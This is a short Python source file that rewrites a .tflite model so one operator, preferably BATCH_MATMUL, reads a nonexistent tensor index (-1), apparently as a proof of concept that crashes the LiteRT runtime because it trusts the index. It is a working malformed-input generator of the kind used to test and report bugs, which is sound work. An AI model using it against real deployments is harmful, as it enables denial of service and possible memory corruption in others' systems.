"""A .tflite file that makes LiteRT crash."""

import flatbuffers
from ai_edge_litert import schema_py_generated as schema


def crashing(content):
    """A valid flatbuffer with an operator that reads a tensor which is not there: LiteRT trusts it."""
    model = schema.ModelT.InitFromPackedBuf(content, 0)
    kinds = [code.builtinCode for code in model.operatorCodes]
    operators = model.subgraphs[0].operators
    products = [op for op in operators if kinds[op.opcodeIndex] == schema.BuiltinOperator.BATCH_MATMUL]
    operator = (products or operators)[0]  # some other operators look before they read
    operator.inputs = [*operator.inputs[:-1], -1]
    builder = flatbuffers.Builder()
    builder.Finish(model.Pack(builder), b"TFL3")
    return bytes(builder.Output())
